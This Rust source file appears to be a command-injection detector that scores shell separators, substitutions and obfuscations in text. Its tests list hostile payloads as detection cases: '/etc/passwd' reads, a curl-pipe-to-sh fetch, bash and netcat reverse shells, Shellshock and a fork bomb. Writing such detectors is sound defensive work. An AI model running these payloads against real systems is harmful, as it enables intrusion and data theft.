//! Command injection: a command where a shell would start one.
//!
//! Sees commands behind separators, substitutions and line ends, blanks written
//! as `${IFS}`, reverse shells, functions smuggled through the environment
//! (CVE-2014-6271). A shell script posted as a document is content; the same
//! line as the whole of a short value is not.

use super::evidence::{Evidence, Strongest, Texture};
use super::shell_settings::{beside_prose, is_asked_about, is_built, is_data, is_probe};
use super::{gate, shell_idioms, shell_tricks};
use crate::text::cursor::{each_of_ci, find, is_space, is_word};
use crate::text::shell::{Argument, COMMANDS, Command, Invocation, Mark, each_invocation};

/// The strongest evidence in `text`; `idiomatic` when a word of an idiom occurs.
pub(crate) fn find_in(text: &[u8], idiomatic: bool, texture: Texture) -> Option<Evidence> {
    let mut best = Strongest::default();
    shells(text, idiomatic, texture, &mut best);
    if texture.is_text()
        && texture.lines <= 2
        && let Some((start, end)) = beside_prose(text)
    {
        let part = text.get(start..end).unwrap_or_default();
        let mut found = Strongest::default();
        shells(part, idiomatic, gate::scan(part).texture, &mut found);
        if let Some(found) = found.0 {
            best.add(found.shifted(start));
        }
    }
    best.0
}

fn shells(text: &[u8], idiomatic: bool, texture: Texture, best: &mut Strongest) {
    let mut place = Surroundings::new(text);
    each_invocation(text, &mut |found| {
        if let Some((code, score)) = judge(&found, &mut place, texture) {
            best.add(Evidence::new(code, score, found.start, found.end));
        }
    });
    if !texture.is_text() {
        shell_tricks::find_in(text, best);
    }
    if idiomatic {
        shell_idioms::find_in(text, texture, best);
    }
}

/// What a text is a list by is counted once.
struct Surroundings<'t> {
    text: &'t [u8],
    counted: Option<[usize; 3]>,
}

const SEPARATORS: [u8; 3] = [b';', b'|', b'&'];

impl<'t> Surroundings<'t> {
    fn new(text: &'t [u8]) -> Self {
        let counted = None;
        Self { text, counted }
    }

    /// How often the separator of this command separates; doubled ones count once.
    fn separators(&mut self, found: &Invocation) -> usize {
        let text = self.text;
        let counted = self.counted.get_or_insert_with(|| {
            let mut counts = [0_usize; 3];
            let mut last = 0_u8;
            for byte in text {
                let which = SEPARATORS.iter().position(|s| s == byte);
                if let Some(count) = which.and_then(|which| counts.get_mut(which))
                    && *byte != last
                {
                    *count = count.saturating_add(1);
                }
                last = *byte;
            }
            counts
        });
        let here = text.get(found.start);
        SEPARATORS
            .iter()
            .zip(counted)
            .find(|(separator, _)| here == Some(separator))
            .map_or(0, |(_, count)| *count)
    }

    /// What stands before it is no sentence, or it is part of a word.
    fn is_bare(&self, found: &Invocation) -> bool {
        let before = found.start.checked_sub(1).and_then(|at| self.text.get(at));
        let glued = before.is_some_and(|b| !is_space(*b) && *b != b'(');
        // `; if true;then id;fi`
        let blocks = || {
            let before = self.text.get(..found.start).unwrap_or_default();
            let opens = [&b"if "[..], b"for ", b"while "];
            before.len() <= 48 && opens.iter().any(|word| find(before, word).is_some())
        };
        match found.mark {
            Mark::Separator if found.led && blocks() => true,
            Mark::Quoted => {
                (found.bare && !before.is_some_and(|b| is_space(*b)))
                    || (glued && !found.command.is_common() && found.command.tells())
            }
            _ => found.bare,
        }
    }

    /// A word without arguments between others, as in `name|date|type`, is an
    /// item of a list, a choice of a pattern or a column of a table.
    fn is_item(&mut self, found: &Invocation) -> bool {
        if found.hidden || found.rooted || found.led {
            return false;
        }
        let before = self.text.get(..found.start).unwrap_or_default();
        let near = before
            .get(before.len().saturating_sub(64)..)
            .unwrap_or_default();
        // `(a|date|b)`
        let open = near.iter().rposition(|b| *b == b'(');
        if open.is_some_and(|open| near.get(open..).is_some_and(|t| !t.contains(&b')'))) {
            return true;
        }
        // `each {|id| … }` of Ruby
        if before.last() == Some(&b'{') {
            return true;
        }
        let count = self.separators(found);
        let first = before.len() <= 8 && !before.iter().any(u8::is_ascii_alphanumeric);
        if first && count <= 2 {
            return false;
        }
        let behind = self.text.get(found.end..).unwrap_or_default();
        let behind = behind.trim_ascii_start();
        let goes_on = behind.first().is_some_and(|b| SEPARATORS.contains(b))
            && behind.iter().any(u8::is_ascii_alphanumeric);
        if count >= 3 || goes_on {
            return true;
        }
        // `name|date`; only `id` is asked for so often that it is no item
        let glued = before.last().is_some_and(|b| !is_space(*b));
        let name = self.text.get(found.start..found.end).unwrap_or_default();
        found.command.is_common()
            && glued
            && before.len() > 2
            && !name.ends_with(b"id")
            && before.iter().all(|b| b.is_ascii_alphabetic() || *b == b'_')
    }
}

fn judge(
    found: &Invocation,
    place: &mut Surroundings<'_>,
    texture: Texture,
) -> Option<(&'static str, u16)> {
    use Argument::{Flag, None as Nothing, Technical, Word};
    // shells tell cases apart, and `cmd.exe` has no `Find`
    let begins = found.mark == Mark::Start;
    if found.title && (found.command.is_common() || !found.bare || begins) && !found.hidden {
        return None;
    }
    let common = found.command.is_common();
    let argued = matches!(found.argument, Flag | Technical);
    if (begins && is_asked_about(place.text)) || is_built(place.text, found) {
        return None;
    }
    // in a text it makes no difference
    let aims = argued && !texture.is_text() && aims(place.text, found);
    let (code, bare, in_sentence): (_, u16, u16) = match found.mark {
        Mark::Separator => {
            let (bare, in_sentence) = match (common, found.argument) {
                (_, Nothing) if place.is_item(found) => (3500, 2500),
                (_, Nothing) if !found.command.tells() && !found.hidden && !found.rooted => {
                    (3500, 2500)
                }
                // `;base64` of a `data:` address
                (false, Word) if place.text.get(..found.end).is_some_and(is_data) => (3500, 2500),
                // the probe that shows itself
                (true, Word) if is_probe(place.text, found) => (6000, 2500),
                (false, Nothing) => (8200, 6500),
                (true, Nothing) => (6500, 3500),
                (false, Flag | Technical) => (8800, if aims { 8000 } else { 4500 }),
                (true, Flag | Technical) => (
                    if aims { 8000 } else { 5500 },
                    if aims { 6000 } else { 3000 },
                ),
                (false, Word) => (if found.title { 3500 } else { 7500 }, 3500),
                (true, Word) => (3500, 1500),
            };
            ("shield.rce.separator", bare, in_sentence)
        }
        Mark::Substitution | Mark::Quoted => {
            let name = place.text.get(found.start..found.end).unwrap_or_default();
            // a variable of make, or of a script that runs what it names
            let variable = found.argument == Nothing && !name.iter().any(u8::is_ascii_lowercase);
            let prose = found.mark == Mark::Quoted && is_quoted(place.text, found);
            if variable || prose {
                return None;
            }
            let (bare, in_sentence) = match (common, found.argument) {
                (_, Nothing) if !found.command.tells() && !found.hidden => (4500, 2500),
                (false, Flag | Technical | Nothing) => (8500, if aims { 6000 } else { 4500 }),
                (false, Word) if found.mark == Mark::Substitution => (6500, 3000),
                (false, Word) => (4500, 3000),
                (true, Flag | Technical) => (7500, 3500),
                (true, Nothing) => (5500, 3000),
                (true, Word) => return None,
            };
            ("shield.rce.substitution", bare, in_sentence)
        }
        Mark::Line => {
            let (bare, in_sentence) = match (common, found.argument) {
                (false, Nothing) if found.command.tells() => (7500, 3500),
                (false, Flag | Technical) => (if aims { 7500 } else { 4500 }, 3500),
                (true, Flag | Technical) if aims => (6000, 3000),
                (true, Nothing)
                    if found.hidden || (texture.words <= 3 && found.command.tells()) =>
                {
                    (6000, 2500)
                }
                _ => return None,
            };
            ("shield.rce.line", bare, in_sentence)
        }
        Mark::Start => {
            let score = match (common, found.argument) {
                (false, Flag | Technical) if found.hidden || found.braced => 8500,
                (false, Nothing) if found.hidden && found.command.tells() => 7000,
                (false, Flag | Technical) if aims => 6500,
                (false, Flag) if found.rooted && !found.command.tells() => 5500,
                (false, Flag) if found.command.tells() && texture.words <= 4 => 5500,
                _ if texture.words <= 8 && hands_on(place.text, found) => 6500,
                _ => return None,
            };
            ("shield.rce.command", score, score)
        }
    };
    let odd = if found.hidden { 800 } else { 0 };
    let score = if place.is_bare(found) {
        bare
    } else {
        in_sentence
    };
    Some((
        code,
        texture.weigh(score.saturating_add(odd).min(9500), 3500, 2000),
    ))
}

/// Behind the closing quote the text goes on, as in prose about a command.
fn is_quoted(text: &[u8], found: &Invocation) -> bool {
    let rest = text.get(found.end..).unwrap_or_default();
    let Some(close) = rest.iter().take(200).position(|b| *b == b'`') else {
        return false;
    };
    let behind = rest.get(close.saturating_add(1)..).unwrap_or_default();
    let prose = behind
        .iter()
        .take(24)
        .filter(|b| b.is_ascii_alphabetic())
        .count();
    let before = text.get(..found.start).unwrap_or_default();
    prose >= 3 || (matches!(before, [.., b' ' | b'(']) && !found.bare) || before.starts_with(b"- ")
}

/// `nohup sh -c x`, `time whoami`: a command that runs another.
fn hands_on(text: &[u8], found: &Invocation) -> bool {
    const RUNNERS: [&[u8]; 12] = [
        b"nohup", b"time", b"timeout", b"env", b"sudo", b"doas", b"nice", b"strace", b"ltrace",
        b"setsid", b"busybox", b"xargs",
    ];
    let name = text.get(found.start..found.end).unwrap_or_default();
    let rest = text.get(found.end..).unwrap_or_default().trim_ascii_start();
    let word = rest.split(|b| !is_word(*b)).next().unwrap_or_default();
    RUNNERS.contains(&name) && COMMANDS.get(word) == Some(Command::Telling)
}

/// Commands that take a host.
const NETWORK: [&[u8]; 12] = [
    b"ping",
    b"ping6",
    b"nslookup",
    b"curl",
    b"wget",
    b"telnet",
    b"nc",
    b"ncat",
    b"ssh",
    b"ftp",
    b"whois",
    b"tracert",
];

/// What a command is pointed at in an attack: files of the system, hosts,
/// devices, another shell. Reads as far as an argument reaches.
fn aims(text: &[u8], found: &Invocation) -> bool {
    const TARGETS: [&[u8]; 22] = [
        b"/etc",
        b"/proc",
        b"/bin",
        b"/dev/",
        b"/tmp",
        b"/var/",
        b"/root",
        b"://",
        b"passwd",
        b"win.ini",
        b"boot.ini",
        b"c:\\",
        b"c:/",
        b"$(",
        b"`",
        b"${",
        b"|sh",
        b"| sh",
        b"|bash",
        b"| bash",
        b"/c ",
        b"%\\",
    ];
    let end = found.end;
    let rest = text
        .get(end..end.saturating_add(80).min(text.len()))
        .unwrap_or_default();
    let line = rest.split(|b| *b == b'\n').next().unwrap_or_default();
    let blank = line.trim_ascii_start();
    // `ls /`, `ping 10.0.0.1`, `nslookup evil.example`, `sleep 5`
    let word = blank.split(|b| is_space(*b)).next().unwrap_or_default();
    let host = word.len() > 3
        && word.contains(&b'.')
        && word
            .iter()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-'));
    // `tclsh x.tcl` runs a file of its own, `ping 127.0.0.1 works` is a sentence
    let name = text.get(found.start..end).unwrap_or_default();
    let plain = blank
        .split(|b| is_space(*b))
        .filter(|w| w.len() > 1 && w.iter().all(u8::is_ascii_alphabetic))
        .count();
    let taken = NETWORK.iter().any(|command| name.ends_with(command));
    let host = host && (found.mark != Mark::Start || (taken && plain <= 1));
    let filter = [&b"head"[..], b"tail", b"cut", b"sort"]
        .iter()
        .any(|command| name.ends_with(command));
    let number =
        !filter && !word.is_empty() && word.iter().all(u8::is_ascii_digit) && blank.len() <= 4;
    if word == b"/"
        || number
        || (host && blank.len() <= 64)
        || matches!(word, [b'-', b'a'..=b'z']) && blank.len() <= 6
    {
        return true;
    }
    let mut seen = false;
    // the quote that ends a span of Markdown is no substitution
    let near = text
        .get(found.start.saturating_sub(200)..found.start)
        .unwrap_or_default();
    let spans = near.split(|b| *b == b'`').count() % 2 == 0;
    let line = match line.iter().position(|b| *b == b'`') {
        Some(close) if spans => line.get(..close).unwrap_or_default(),
        _ => line,
    };
    each_of_ci(line, &TARGETS, &mut |_, _| seen = true);
    seen
}

#[cfg(test)]
mod tests {
    use super::*;

    fn score(text: &str) -> u16 {
        let texture = super::super::gate::scan(text.as_bytes()).texture;
        find_in(text.as_bytes(), true, texture).map_or(0, |e| e.score)
    }

    #[test]
    fn commands_that_are_run() {
        for text in [
            "127.0.0.1; cat /etc/passwd",
            "x|id",
            "$(whoami)",
            "`uname -a`",
            "a&&curl http://e.example/x|sh",
            "() { :;}; /bin/ls",
            "x\nwhoami",
            ";cat${IFS}x",
            "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
            ";id\\n",
            "\\nid|",
            "{cat,/etc/passwd}",
            "c'a't /etc/passwd",
            "/???/c?t /???/p??s??",
            ";a=wh;b=oami;$a$b",
            "x;$'\\x69\\x64'",
            "who`echo am`i",
            "who$(echo am)i",
            "cat${PATH:0:1}etc",
            "f(){ f|f& };f",
            "nc -e /bin/sh 10.0.0.1 4242",
            "wget http://e.example/x.sh",
            "8.8.8.8 && sleep 5",
            "nohup sh -c whoami",
            "; x=1 id",
            ";if true;then id;fi",
            ";for i in 1;do id;done",
            "| exec sleep 5",
            "; </dev/null ps aux",
            "; $(tr A-Z a-z<<<'ID')",
            ";$(echo aWQ=|base64 -d)",
            "; echo pwned",
        ] {
            assert!(score(text) >= 5000, "{text}");
        }
    }

    #[test]
    fn prose_and_queries() {
        for text in [
            "Tom & Jerry; cats and dogs",
            "a | b | c",
            "Find out more; sort by date; then echo it",
            "/x?id=1&type=2&sort=name",
            "$(document).ready(function() { x(); })",
            "price|sort|cat|date|start|end|zip|x",
            "ann;cat;red;sort;big;zip;new;date",
            "x;cat;y",
            "cat /etc/hosts meaning",
            "bash ${var} vs $(command)",
            "ping 127.0.0.1 works but localhost doesn't",
            "data:image/png;base64 size limit",
            "index=web | stats count by uri, user | sort -count | head 10",
            "FROM node:20\nRUN npm ci; rm -rf /tmp/*\nCMD [\"x\"]",
            "a|date|b",
            "name|date",
            "(int|id|set)",
            "fn as_file(&self) -> &File {",
            "self.map.get(&id).map(|e| e)",
            "Use `make` to build; `ls` lists files.",
            "```bash package=x",
            "Docs\nRead **the docs** on GitHub.",
            "#!/bin/bash",
            "$(MAKE) -C src",
            "| Linux | GCC |",
            "while ((match = re.exec(x))) { a(); }",
            "$a = 1; $b = $a;",
            "import x; export { default } from 'y';",
            "grid-area: a; display: none; cut: 1",
        ] {
            assert!(score(text) < 5000, "{text}");
        }
    }
}
